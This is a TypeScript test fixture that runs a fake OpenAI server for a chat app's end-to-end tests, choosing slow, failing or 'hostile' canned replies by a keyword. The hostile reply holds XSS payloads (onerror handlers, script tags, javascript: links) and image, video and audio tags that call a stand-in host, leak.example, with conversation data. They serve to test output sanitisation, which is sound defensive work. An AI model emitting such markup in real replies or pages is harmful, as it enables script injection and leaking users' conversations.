/**
 * The model the e2e tests talk to, run as its own process (the API is one too): the fake
 * OpenAI server, answering by a marker in the visitor's last message so that each test can
 * pick its scenario by what it types. Prints `READY <url>` when listening.
 *   slow     a long reply, slowly (to stop, cut or reload mid-reply)
 *   fail     the provider answers 500 the first time, then normally
 *   hostile  a reply full of HTML and links that try to run script
 * Data extraction (non-streaming calls) gets `{}`: nothing collected.
 */
import { type FakeReplyScript, startFakeOpenAi } from '@chat/fake-openai';

export const QUICK_REPLY = [
  '## Momentum trading',
  '',
  'Momentum trading means **buying what is rising** and selling what is falling.',
  '',
  '- Follow the trend',
  '- Cut losses early',
  '',
  '```python',
  'def signal(prices):',
  '    return prices[-1] > prices[-20]',
  '```',
  '',
  'That is the short answer.',
].join('\n');

export const SLOW_REPLY = Array.from(
  { length: 12 },
  (_, i) => `Paragraph ${i + 1} explains one more idea about risk, position sizing and patience in markets.`,
)
  .join('\n\n')
  .concat('\n\nEnd of the long answer.');

export const HOSTILE_REPLY = [
  'Here is a picture: <img src=x onerror="window.__pwned=1;alert(1)">',
  '',
  '<script>window.__pwned=1;alert(2)</script>',
  '',
  '[Click me](javascript:window.__pwned=1) and <a href="javascript:alert(3)">me</a>.',
  '',
  '<div onmouseover="window.__pwned=1" style="position:fixed;inset:0">cover</div>',
  '',
  '<iframe src="javascript:parent.__pwned=1"></iframe>',
  '',
  'A pixel that would tell: ![tracking pixel](https://leak.example/pixel.png?leak=conversation)',
  '',
  '<video poster="https://leak.example/poster.png" src="https://leak.example/v.mp4" autoplay></video>',
  '',
  '<table background="https://leak.example/bg.png"><tr><td>cell</td></tr></table>',
  '',
  '<img srcset="https://leak.example/set.png 1x"> <audio src="https://leak.example/a.mp3" autoplay></audio>',
  '',
  'Safe text at the end.',
].join('\n');

function lastUserMessage(body: { messages?: { role: string; content: unknown }[] }): string {
  const turns = body.messages ?? [];
  const last = [...turns].reverse().find((m) => m.role === 'user');
  return typeof last?.content === 'string' ? last.content : '';
}

async function main(): Promise<void> {
  const failed = new Set<string>();
  const server = await startFakeOpenAi({ host: '127.0.0.1' });
  server.setDefault((body): FakeReplyScript => {
    if (!body.stream) return { json: {} };
    const message = lastUserMessage(body);
    if (message.includes('fail') && !failed.has(message)) {
      failed.add(message);
      return { status: 500 };
    }
    if (message.includes('hostile')) return { text: HOSTILE_REPLY, tokenDelayMs: 5 };
    if (message.includes('slow')) return { text: SLOW_REPLY, tokenDelayMs: 45 };
    return { text: QUICK_REPLY, tokenDelayMs: 40 };
  });
  console.log(`READY ${server.url}`);
  const stop = () => void server.close().then(() => process.exit(0));
  process.on('SIGTERM', stop);
  process.on('SIGINT', stop);
}

void main();
